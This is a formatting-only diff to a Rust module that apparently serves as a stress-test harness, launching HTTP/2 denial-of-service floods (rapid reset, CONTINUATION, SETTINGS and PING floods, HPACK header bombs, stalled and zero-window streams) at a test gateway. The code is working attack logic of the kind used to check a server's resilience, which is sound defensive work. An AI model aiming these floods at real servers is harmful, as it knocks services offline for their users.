@@ -54,14 +54,21 @@ fn literal(name: &str, value: &str) -> Vec<u8> {
 
 fn request(more: &[(&str, &str)]) -> Vec<u8> {
     let mut block = vec![0x83, 0x87]; // :method POST, :scheme https
-    for (name, value) in [(":path", "/webhooks/github"), (":authority", "gate.test")].iter().chain(more) {
+    for (name, value) in [(":path", "/webhooks/github"), (":authority", "gate.test")]
+        .iter()
+        .chain(more)
+    {
         block.extend(literal(name, value));
     }
     block
 }
 
 /// A connection with its preface sent.
-async fn open(target: &Target, number: usize, settings: &[(u16, u32)]) -> std::io::Result<TlsStream<TcpStream>> {
+async fn open(
+    target: &Target,
+    number: usize,
+    settings: &[(u16, u32)],
+) -> std::io::Result<TlsStream<TcpStream>> {
     let mut stream = target.tls(number, true).await?;
     let mut payload = Vec::new();
     for (name, value) in settings {
@@ -107,7 +114,11 @@ impl std::fmt::Display for End {
 }
 
 /// Reads frames until the connection ends; counts answers and resets.
-async fn watch(reader: &mut (impl tokio::io::AsyncRead + Unpin), answered: &mut usize, reset: &mut usize) -> End {
+async fn watch(
+    reader: &mut (impl tokio::io::AsyncRead + Unpin),
+    answered: &mut usize,
+    reset: &mut usize,
+) -> End {
     let mut payload = Vec::new();
     loop {
         let mut head = [0; 9];
@@ -122,7 +133,11 @@ async fn watch(reader: &mut (impl tokio::io::AsyncRead + Unpin), answered: &mut 
         match head[3] {
             HEADERS => *answered += 1,
             RST_STREAM => *reset += 1,
-            GOAWAY if length >= 8 => return End::Goaway(u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]])),
+            GOAWAY if length >= 8 => {
+                return End::Goaway(u32::from_be_bytes([
+                    payload[4], payload[5], payload[6], payload[7],
+                ]));
+            }
             _ => {}
         }
     }
@@ -136,7 +151,13 @@ struct Storm {
     settings: &'static [(u16, u32)],
 }
 
-fn storm(name: &'static str, size: &str, connections: usize, storm: Storm, next: fn(u32) -> Vec<u8>) -> Flood {
+fn storm(
+    name: &'static str,
+    size: &str,
+    connections: usize,
+    storm: Storm,
+    next: fn(u32) -> Vec<u8>,
+) -> Flood {
     let run = move |target: Target| -> super::Running {
         Box::pin(async move {
             let mut attackers = tokio::task::JoinSet::new();
@@ -152,7 +173,14 @@ fn storm(name: &'static str, size: &str, connections: usize, storm: Storm, next:
             all
         })
     };
-    Flood { name, size: format!("{connections} connections for {} s, {size}", storm.limit.as_secs()), run: Box::new(run) }
+    Flood {
+        name,
+        size: format!(
+            "{connections} connections for {} s, {size}",
+            storm.limit.as_secs()
+        ),
+        run: Box::new(run),
+    }
 }
 
 async fn rage(target: Target, number: usize, storm: Storm, next: fn(u32) -> Vec<u8>) -> Tally {
@@ -214,44 +242,105 @@ fn stream_id(number: u32) -> u32 {
 
 /// Streams that are begun and cancelled.
 pub fn rapid_reset(connections: usize, limit: Duration) -> Flood {
-    storm("h2 rapid reset", "HEADERS and RST_STREAM", connections, Storm { limit, deaf: false, settings: &[] }, |round| {
-        let mut batch = Vec::new();
-        for number in round * 20..round * 20 + 20 {
-            batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(number), &request(&[])));
-            batch.extend(frame(RST_STREAM, 0, stream_id(number), &CANCEL));
-        }
-        batch
-    })
+    storm(
+        "h2 rapid reset",
+        "HEADERS and RST_STREAM",
+        connections,
+        Storm {
+            limit,
+            deaf: false,
+            settings: &[],
+        },
+        |round| {
+            let mut batch = Vec::new();
+            for number in round * 20..round * 20 + 20 {
+                batch.extend(frame(
+                    HEADERS,
+                    END_HEADERS | END_STREAM,
+                    stream_id(number),
+                    &request(&[]),
+                ));
+                batch.extend(frame(RST_STREAM, 0, stream_id(number), &CANCEL));
+            }
+            batch
+        },
+    )
 }
 
 /// A header list without an end.
 pub fn continuation(connections: usize, limit: Duration) -> Flood {
-    storm("h2 CONTINUATION", "16 KiB frames without end", connections, Storm { limit, deaf: false, settings: &[] }, |round| {
-        let line = literal("x", &"y".repeat(16_000));
-        if round == 0 { frame(HEADERS, 0, 1, &request(&[])) } else { frame(CONTINUATION, 0, 1, &line) }
-    })
+    storm(
+        "h2 CONTINUATION",
+        "16 KiB frames without end",
+        connections,
+        Storm {
+            limit,
+            deaf: false,
+            settings: &[],
+        },
+        |round| {
+            let line = literal("x", &"y".repeat(16_000));
+            if round == 0 {
+                frame(HEADERS, 0, 1, &request(&[]))
+            } else {
+                frame(CONTINUATION, 0, 1, &line)
+            }
+        },
+    )
 }
 
 /// Settings that all want an acknowledgement, which nobody reads.
 pub fn settings(connections: usize, limit: Duration) -> Flood {
-    storm("h2 SETTINGS", "acknowledgements unread", connections, Storm { limit, deaf: true, settings: &[] }, |_| {
-        frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(500)
-    })
+    storm(
+        "h2 SETTINGS",
+        "acknowledgements unread",
+        connections,
+        Storm {
+            limit,
+            deaf: true,
+            settings: &[],
+        },
+        |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(500),
+    )
 }
 
 /// Pings that all want an answer, which nobody reads.
 pub fn pings(connections: usize, limit: Duration) -> Flood {
-    storm("h2 PING", "answers unread", connections, Storm { limit, deaf: true, settings: &[] }, |_| frame(PING, 0, 0, &[7; 8]).repeat(500))
+    storm(
+        "h2 PING",
+        "answers unread",
+        connections,
+        Storm {
+            limit,
+            deaf: true,
+            settings: &[],
+        },
+        |_| frame(PING, 0, 0, &[7; 8]).repeat(500),
+    )
 }
 
 /// Frames that carry nothing and cost their reader something.
 pub fn empty_frames(connections: usize, limit: Duration) -> Flood {
-    storm("h2 empty frames", "empty DATA, WINDOW_UPDATE of 1", connections, Storm { limit, deaf: false, settings: &[] }, |round| {
-        let mut batch = if round == 0 { frame(HEADERS, END_HEADERS, 1, &request(&[])) } else { Vec::new() };
-        batch.extend(frame(DATA, 0, 1, b"").repeat(250));
-        batch.extend(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(250));
-        batch
-    })
+    storm(
+        "h2 empty frames",
+        "empty DATA, WINDOW_UPDATE of 1",
+        connections,
+        Storm {
+            limit,
+            deaf: false,
+            settings: &[],
+        },
+        |round| {
+            let mut batch = if round == 0 {
+                frame(HEADERS, END_HEADERS, 1, &request(&[]))
+            } else {
+                Vec::new()
+            };
+            batch.extend(frame(DATA, 0, 1, b"").repeat(250));
+            batch.extend(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(250));
+            batch
+        },
+    )
 }
 
 /// As many streams as are let in, each with a large head and the beginning of a large body.
@@ -260,7 +349,11 @@ pub fn stalled_streams(connections: usize, limit: Duration) -> Flood {
         "h2 stalled bodies",
         "32 streams each: 8 KiB head, 16 KiB body, then nothing",
         connections,
-        Storm { limit, deaf: false, settings: &[] },
+        Storm {
+            limit,
+            deaf: false,
+            settings: &[],
+        },
         |round| {
             if round >= 32 {
                 return Vec::new();
@@ -279,12 +372,21 @@ pub fn zero_windows(connections: usize, limit: Duration) -> Flood {
         "h2 zero windows",
         "32 streams each, 8 KiB heads, answers may not be sent",
         connections,
-        Storm { limit, deaf: false, settings: &[(4, 0)] },
+        Storm {
+            limit,
+            deaf: false,
+            settings: &[(4, 0)],
+        },
         |round| {
             if round >= 32 {
                 return Vec::new();
             }
-            frame(HEADERS, END_HEADERS | END_STREAM, stream_id(round), &request(&[("x", &"y".repeat(8000))]))
+            frame(
+                HEADERS,
+                END_HEADERS | END_STREAM,
+                stream_id(round),
+                &request(&[("x", &"y".repeat(8000))]),
+            )
         },
     )
 }
@@ -300,12 +402,20 @@ pub fn unread_pages(connections: usize, limit: Duration, brief: bool) -> Flood {
         block.extend(literal(":authority", "gate.test"));
         frame(HEADERS, END_HEADERS | END_STREAM, stream_id(round), &block)
     }
-    let storm_of = Storm { limit, deaf: false, settings: &[(4, 0)] };
+    let storm_of = Storm {
+        limit,
+        deaf: false,
+        settings: &[(4, 0)],
+    };
     let size = "8 MiB a page, answers may not be sent";
     if brief {
-        return storm("h2 unread pages", size, connections, storm_of, |round| page(round, "/brief", 2));
+        return storm("h2 unread pages", size, connections, storm_of, |round| {
+            page(round, "/brief", 2)
+        });
     }
-    storm("h2 unread pages", size, connections, storm_of, |round| page(round, "/page", 32))
+    storm("h2 unread pages", size, connections, storm_of, |round| {
+        page(round, "/page", 32)
+    })
 }
 
 /// One long line, put into the compressor's table once and named again and again: <https://www.rfc-editor.org/rfc/rfc7541#section-7.3>.
@@ -314,7 +424,11 @@ pub fn hpack_bombs(connections: usize, limit: Duration) -> Flood {
         "h2 header bombs",
         "a line of 4,000 bytes named 10,000 times a head",
         connections,
-        Storm { limit, deaf: false, settings: &[] },
+        Storm {
+            limit,
+            deaf: false,
+            settings: &[],
+        },
         |round| {
             let mut block = request(&[]);
             if round == 0 {
@@ -334,7 +448,9 @@ pub fn silent(connections: usize) -> Flood {
         Box::pin(super::each(connections, move |number| {
             let target = target.clone();
             async move {
-                let Ok(mut stream) = open(&target, number, &[]).await else { return "not let in".to_owned() };
+                let Ok(mut stream) = open(&target, number, &[]).await else {
+                    return "not let in".to_owned();
+                };
                 let begun = Instant::now();
                 match timeout(Duration::from_secs(90), watch(&mut stream, &mut 0, &mut 0)).await {
                     Ok(end) => format!("{end} after {} s", begun.elapsed().as_secs() / 5 * 5),
@@ -343,5 +459,9 @@ pub fn silent(connections: usize) -> Flood {
             }
         }))
     };
-    Flood { name: "h2 silence", size: format!("{connections} connections, nothing after the preface"), run: Box::new(run) }
+    Flood {
+        name: "h2 silence",
+        size: format!("{connections} connections, nothing after the preface"),
+        run: Box::new(run),
+    }
 }
